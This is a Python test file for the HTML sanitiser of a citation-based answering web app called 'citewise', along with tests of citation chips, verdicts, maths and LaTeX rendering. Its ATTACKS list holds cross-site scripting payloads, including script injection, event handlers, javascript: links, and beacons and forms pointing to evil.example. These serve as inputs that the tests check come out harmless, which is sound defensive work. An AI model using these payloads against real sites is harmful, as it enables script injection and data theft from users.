from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
import scripted  # type: ignore[import-not-found]  # beside this file
from hypothesis import given, settings
from hypothesis import strategies as st

from citewise.answering.aside import ASKS_NOTHING
from citewise.conversations import ConversationInfo
from citewise.types import Citation, Paper, Retrieved, Sentence, Span, Verdict
from citewise.web import render
from citewise.web.mathematics import drawn


class Seen(HTMLParser):
    """What a browser would make of some HTML: tags, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.marks: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)
        if tag == "mark":
            self.marks.append("")

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)
        if "mark" in self.open:
            self.marks[-1] += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came through: {decl!r}")

    @property
    def text(self) -> str:
        return "".join(self.words)

    def attributes(self, tag: str, name: str) -> list[str | None]:
        return [attributes[name] for t, attributes in self.tags if t == tag and name in attributes]

    def of_class(self, css: str) -> list[dict[str, str | None]]:
        return [a for _, a in self.tags if css in (a.get("class") or "").split()]


def assert_harmless(html: str) -> Seen:
    seen = Seen(html)
    for tag, attributes in seen.tags:
        assert tag in render.ALLOWED_TAGS, tag
        for name, value in attributes.items():
            assert name in render.ALLOWED_ATTRIBUTES, (tag, name)
            if name == "href":
                assert (value or "").lower().startswith(("http://", "https://"))
                assert "noopener" in (attributes.get("rel") or "")
            if name == "class":
                assert all(c.startswith("cw-") for c in (value or "").split())
            assert not name.startswith("on")
    assert not seen.open
    return seen


ATTACKS = [
    "<script>alert(1)</script>",
    "</span></div><script src=//evil.example/x.js></script>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "![beacon](http://evil.example/b.gif)",
    "![beacon][1]\n\n[1]: http://evil.example/b.gif",
    "[go](JaVaScRiPt:alert(1))",
    "[go](java\tscript:alert(1))",
    "[go](&#106;avascript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "[go](vbscript:x) [go](file:///etc/passwd) [go](//evil.example) [go](/logout)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)" style="position:fixed">x</a>',
    "<style>*{display:none}</style><link rel=stylesheet href=http://evil.example>",
    "<form action=http://evil.example><input name=q></form>",
    "<base href=http://evil.example><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "`` <script>alert(1)</script> ``\n\n```\n<img src=x onerror=alert(1)>\n```",
    "<!-- --><!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>x</script> | b |",
    'x" onmouseover="alert(1)" data-x="',
    "\ue0000\ue004\ue0021\ue004\ue0030\ue004\ue001\ue13c\ue153script\ue13e",
    "\ud800<script>\udfff</script>\x00<scr\x00ipt>",
    "$<script>alert(1)</script>$ $\\href{javascript:alert(1)}{x}$",
]


def shelves(text: str) -> SimpleNamespace:
    return SimpleNamespace(papers=3, sources={text: 3}, earliest=text, latest=text)


def hostile_everywhere(text: str) -> list[str]:
    """The output of every function, with ``text`` in every place where text goes."""
    words = text if text.strip() else "x"
    paper = Paper(
        id=text,
        title=text,
        abstract=words,
        authors=(text, text),
        published=text,
        url=text,
        source=text,
        organization=text,
    )
    span = Span(0, len(words), words, "")
    citation = Citation(1, paper, (span,))
    sentences = [
        Sentence(text, (1,), 0.5, verdict, (text,)) for verdict in (Verdict.PARTLY, *Verdict)
    ]
    retrieved = [Retrieved(1, text, text, 0.5)]
    answer = replace(
        scripted.speed_answer(text),
        text=f"{text} [1] {text}\n\n- {text} [1]\n\n{text}",
        sentences=tuple(sentences),
        citations=(citation,),
        retrieved=tuple(retrieved),
        suggestions=(text,),
        notes=(text,),
        reason=text,
        backend=text,
    )
    made = [
        render.answer_html(answer, turn="2", openable=(text,), thumb=-1, reason=text),
        render.answer_html(replace(answer, answered=False), turn="2"),
        render.prose_html(text, sentences, [citation]),
        render.evidence_html(citation, sentences=sentences, focus=True),
        render.retrieved_html(retrieved, openable=(text,)),
        render.store_html([citation], {text: paper}, sentences=sentences, retrieved=retrieved),
        render.question_html(text),
        render.status_html(text),
        render.message_html(text, title=text),
        render.header_html(3, text, text, {text: text}),
        render.shelves_html(shelves(text), text),
        render.conversations_html({text: [ConversationInfo(text, text, text, text, 1)]}),
        render.chips_html({text: text, "since": text}, {"since": text}),
        render.question_html(text, turn=text, within=text),
        render.again_html(text),
        render.evidence_html(citation, None, sentences=sentences, kept=True),
        render.welcome_html(3, [text]),
    ]
    return [*made, render.turn_html(text, "".join(made)), render.clean(text)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives(attack: str) -> None:
    for html in hostile_everywhere(attack):
        assert_harmless(html)


@given(st.text(max_size=200))
@settings(max_examples=60, deadline=None)
def test_any_text_gives_only_tags_of_the_list(text: str) -> None:
    for html in hostile_everywhere(text):
        assert_harmless(html)


@given(
    st.lists(st.sampled_from(ATTACKS) | st.sampled_from(list("[]()!`*_|\\\n#->$<&1 ")), max_size=12)
)
@settings(max_examples=60, deadline=None)
def test_mixed_attacks_give_only_tags_of_the_list(parts: list[str]) -> None:
    for html in hostile_everywhere("".join(parts)):
        assert_harmless(html)


def test_hostile_text_is_shown_as_text() -> None:
    seen = assert_harmless(render.question_html("<script>alert(1)</script> & why?"))
    assert seen.text == "<script>alert(1)</script> & why?"
    seen = assert_harmless(render.prose_html("<b>1 < 2</b>", [], []))
    assert seen.text.strip() == "<b>1 < 2</b>"


def test_web_links_stay_and_open_safely() -> None:
    seen = assert_harmless(render.prose_html("see [here](https://example.org/a)", [], []))
    assert seen.attributes("a", "href") == ["https://example.org/a"]
    assert seen.attributes("a", "rel") == ["noopener noreferrer nofollow"]
    assert seen.attributes("a", "target") == ["_blank"]


def test_every_sentence_shows_its_chips_and_verdict() -> None:
    answer = scripted.speed_answer()
    seen = assert_harmless(render.answer_html(answer, turn="7"))
    assert [b["data-cw-open"] for b in seen.of_class("cw-chip")] == ["7:1", "7:1", "7:2", "7:3"]
    verdicts = [b["class"] for b in seen.of_class("cw-verdict")]
    assert [str(v).split()[1] for v in verdicts] == [
        "cw-supported",
        "cw-supported",
        "cw-doubtful",
        "cw-supported",
        "cw-uncited",
    ]
    why = seen.of_class("cw-doubtful")[0]["data-cw-quote"]
    assert why is not None
    assert "without any loss" in why
    ids = {span["data-cw-s"] for span in seen.of_class("cw-s")}
    assert ids == {"7:0", "7:1", "7:2", "7:3", "7:4"}


def test_a_chip_tells_title_and_quote() -> None:
    answer = scripted.speed_answer()
    chip = Seen(render.answer_html(answer)).of_class("cw-chip")[2]
    assert chip["data-cw-title"] == answer.citations[1].paper.title
    assert "falls by 62%" in (chip["data-cw-quote"] or "")
    assert chip["aria-label"] == f"Source 2: {answer.citations[1].paper.title}"


def said(text: str, *numbers: int) -> Sentence:
    return Sentence(text, numbers, 0.9, Verdict.SUPPORTED)


ONE = scripted.speed_answer().citations[0]
TWO = scripted.speed_answer().citations[1]


@pytest.mark.parametrize(
    ("markdown", "sentences"),
    [
        ("A is fast [1]. B is slow [2].", ["A is fast.", "B is slow."]),
        ("A is fast. [1] B is slow. [2]", ["A is fast.", "B is slow."]),
        ("**A** is *fast* [1].\n\nB\nis slow[2].", ["A is fast.", "B is slow."]),
        ("**A is fast [1]. B** is slow [2].", ["A is fast.", "B is slow."]),
        ("- A is fast [1].\n- B is slow [2].", ["A is fast.", "B is slow."]),
        ("1. A is fast [1][2].\n2. B is slow [2].", ["A is fast.", "B is slow."]),
        ("### Found\n\nA is [1] fast.\n\n> B is slow [2].", ["A is fast.", "B is slow."]),
        (
            "| who | what |\n|---|---|\n| A is fast [1] | B is slow [2] |",
            ["A is fast", "B is slow"],
        ),
        ("A is `fast` [1]. [B](https://b.org) is slow [2].", ["A is fast.", "B"]),
    ],
)
def test_sentences_are_found_through_markdown(markdown: str, sentences: list[str]) -> None:
    html = render.prose_html(markdown, [said(s, 1) for s in sentences], [ONE, TWO])
    seen = assert_harmless(html)
    assert {s["data-cw-s"] for s in seen.of_class("cw-s")} == {"1:0", "1:1"}
    assert len(seen.of_class("cw-verdict")) == 2
    assert len(seen.of_class("cw-chip")) == markdown.count("[1]") + markdown.count("[2]")
    assert "[1]" not in seen.text


def test_the_verdict_follows_the_markers_of_its_sentence() -> None:
    seen = Seen(render.prose_html("A is fast. [1] B is slow.", [said("A is fast.", 1)], [ONE]))
    order = [
        str(a["class"]).split()[0] for _, a in seen.tags if a.get("class") not in (None, "cw-prose")
    ]
    assert order == ["cw-s", "cw-keep", "cw-s", "cw-chip", "cw-verdict"]


def test_a_marker_without_its_citation_stays_text() -> None:
    seen = Seen(render.prose_html("It holds [9]. See array[1].", [], []))
    assert "[9]" in seen.text
    assert not seen.of_class("cw-chip")


def test_mathematics_is_drawn_and_markdown_leaves_it_alone() -> None:
    text = r"It is $100\times$ faster with $a_{i}*b_{i}*c$ and H$_2$O, at $p<0.05$"
    seen = assert_harmless(render.prose_html(f"{text} [1].", [said(f"{text}.", 1)], [ONE]))
    assert "It is 100× faster with ai*bi*c and H2O, at p<0.05" in seen.text
    assert [tag for tag, _ in seen.tags].count("math") == 4
    assert {s["data-cw-s"] for s in seen.of_class("cw-s")} == {"1:0"}
    assert len(seen.of_class("cw-chip")) == 1


def test_what_is_not_understood_stays_as_it_is_written() -> None:
    for text in (r"a $\unheard{x}$ b", "for $5 and $10 each", "$ latency by 42.9%$", r"$\frac{1$"):
        seen = assert_harmless(render.prose_html(text, [], []))
        assert text in seen.text
        assert "math" not in [tag for tag, _ in seen.tags]


def test_a_formula_is_drawn_inside_and_outside_of_the_marks() -> None:
    abstract = r"It takes $O(n^2)$ time. It is $3\times$ faster than $x$ before."
    start = abstract.index("It is")
    spans = [Span.of(abstract, start, len(abstract))]
    seen = assert_harmless(render.evidence_html(Citation(1, Paper("p", "T", abstract), (*spans,))))
    assert seen.marks == ["It is 3× faster than x before."]
    assert "It takes O(n2) time. It is 3× faster than x before." in seen.text
    # a mark that ends within a formula keeps its words as they are written
    half = (Span.of(abstract, start, abstract.index("times")),)
    seen = assert_harmless(render.evidence_html(Citation(1, Paper("p", "T", abstract), half)))
    assert seen.marks == ["It is $3\\"]
    assert "times$ faster than x before." in seen.text


@given(st.text(min_size=1, max_size=120).filter(str.strip), st.data())
@settings(max_examples=80, deadline=None)
def test_the_cited_words_and_nothing_else_are_marked(abstract: str, data: st.DataObject) -> None:
    # HTML itself knows no NUL, and reads a carriage return as a line feed
    abstract = abstract.replace("\0", "x").replace("\r", "y")
    start = data.draw(st.integers(0, len(abstract) - 1))
    end = data.draw(st.integers(start + 1, len(abstract)))
    span = Span.of(abstract, start, end)
    paper = Paper("p", "T", abstract)
    seen = assert_harmless(render.evidence_html(Citation(1, paper, (span,)), paper))
    if not list(drawn(abstract)):
        assert seen.marks == [span.text]
        assert abstract in seen.text


LATEX = (
    (r"\textbf{MJA}, a \textbf{m}etaphor of \texttt{x} and \emph{y}", "MJA, a metaphor of x and y"),
    (r"100{,}000 tokens, 45\% of~it \& more", "100,000 tokens, 45% of\xa0it & more"),
    ("the ``quoted'' and the `other' word", "the “quoted” and the ‘other’ word"),
    (r"as in~\cite{a,b} and \citep[p.~3]{c}.", "as in and."),
    (r"Poincar\'e and Schr\"odinger and {\em more} A--B", "Poincaré and Schrödinger and more A–B"),
    # what only looks like it stays: money, about, ranges, names unknown, braces open, said, code
    (r"~30 images, 5~10 of them", "~30 images, 5~10 of them"),
    (r"\method{x} is \textbf{open", r"\method{x} is \textbf{open"),
    (r"said \"so\" and it's theirs'", r"said \"so\" and it's theirs'"),
)


@pytest.mark.parametrize(("written", "shown"), LATEX)
def test_latex_between_formulas_is_shown_as_printed(written: str, shown: str) -> None:
    sentence = f"We say {written} here."
    abstract = f"Before it. {sentence} After it."
    span = Span.of(abstract, 11, 11 + len(sentence))
    paper = Paper("p", written, abstract)
    seen = assert_harmless(render.evidence_html(Citation(1, paper, (span,)), paper))
    assert seen.marks == [f"We say {shown} here."]
    assert f"Before it. We say {shown} here. After it." in seen.text
    assert seen.text.count(shown) >= 3  # its title, its quote and its abstract
    said = Sentence(sentence, (1,), 1.0, Verdict.SUPPORTED)
    prose = assert_harmless(render.prose_html(f"{sentence} [1]", [said], [Citation(1, paper, ())]))
    assert prose.of_class("cw-supported")
    if written != shown:
        assert f"We say {shown} here." in prose.text


def test_a_command_over_two_sentences_costs_them_no_verdict() -> None:
    text = r"It is \textbf{fast. It is small} too."
    said = [
        Sentence(one, (), 0.0, Verdict.UNCITED)
        for one in (r"It is \textbf{fast.", "It is small} too.")
    ]
    assert render.prose_html(text, said, ()).count('class="cw-verdict') == 2


def test_overlapping_spans_are_one_mark() -> None:
    abstract = "One two three four five."
    spans = (Span.of(abstract, 0, 7), Span.of(abstract, 4, 13), Span.of(abstract, 19, 23))
    seen = Seen(render.evidence_html(Citation(1, Paper("p", "T", abstract), spans)))
    assert seen.marks == ["One two three", "five"]


def test_evidence_tells_which_sentences_cite_it() -> None:
    answer = scripted.speed_answer()
    html = render.evidence_html(
        answer.citations[0], turn="3", sentences=answer.sentences, focus=True
    )
    seen = assert_harmless(html)
    assert seen.of_class("cw-card")[0]["data-cw-sentences"] == "3:0 3:1"
    assert "Cited in sentences 1, 2" in seen.text
    assert seen.of_class("cw-open")


def test_only_what_the_source_says_is_told() -> None:
    bare = Paper("p", "Bare", "Words.", url="javascript:alert(1)")
    seen = assert_harmless(render.evidence_html(Citation(1, bare, ())))
    assert not seen.of_class("cw-about")
    full = scripted.PAPERS[0]
    text = Seen(render.evidence_html(Citation(1, full, ()))).text
    assert "Ada Brandt, Keiko Mori, Luis Ortega and 2 more" in text
    assert "2025-04-11" in text


def test_no_answer_is_a_card_with_reason_and_nearest_papers() -> None:
    answer = scripted.no_answer()
    papers = {p.id: p for p in scripted.PAPERS}
    seen = assert_harmless(render.answer_html(answer, turn="4", openable=papers))
    assert seen.of_class("cw-none")
    assert "Not in these papers" in seen.text
    assert "shares only the word 'time'." in seen.text
    assert [b["data-cw-open"] for b in seen.of_class("cw-link") if "data-cw-open" in b] == [
        "4:r1",
        "4:r2",
        "4:r3",
    ]
    assert [b["data-cw-ask"] for b in seen.of_class("cw-ask")] == list(answer.suggestions)
    store = Seen(render.store_html((), papers, turn="4", retrieved=answer.retrieved))
    assert [c["data-cw-key"] for c in store.of_class("cw-card")] == ["4:r1", "4:r2", "4:r3"]


def test_a_line_that_is_no_answer_blames_no_paper() -> None:
    said = replace(scripted.no_answer(), text="You are welcome.", reason=ASKS_NOTHING, retrieved=())
    seen = assert_harmless(render.answer_html(said, turn="1", openable={}))
    assert "You are welcome." in seen.text
    assert "Not in these papers" not in seen.text
    assert not seen.of_class("cw-reason")


def test_copying_keeps_the_sources() -> None:
    text = render.copy_text(scripted.speed_answer())
    assert text.startswith("One paper drafts")
    assert (
        "[2] Shared Shelves: A Key-Value Cache That Several Requests Read Together (Aug 25)" in text
    )
    assert "“Our method needs no draft model and no training.”" in text


def test_an_empty_library_says_how_to_fill_it() -> None:
    seen = assert_harmless(render.welcome_html(0, ["Anything?"]))
    assert "citewise ingest" in seen.text
    assert not seen.of_class("cw-ask")
